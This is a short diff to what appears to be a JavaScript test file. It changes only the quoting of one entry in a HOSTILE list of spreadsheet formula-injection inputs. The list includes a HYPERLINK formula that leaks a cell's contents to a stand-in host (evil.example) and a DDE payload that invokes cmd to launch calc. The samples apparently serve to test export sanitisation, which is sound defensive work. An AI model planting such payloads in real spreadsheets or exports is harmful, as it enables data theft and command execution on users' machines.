@@ -13,7 +13,7 @@ const HOSTILE = [
   'x;=1+1',
   '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
   'Gîte, +33 6 00 00 00 00',
-  'a\t@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "a\t@SUM(1+1)*cmd|' /C calc'!A0",
   'nom; -2+3',
 ];
 
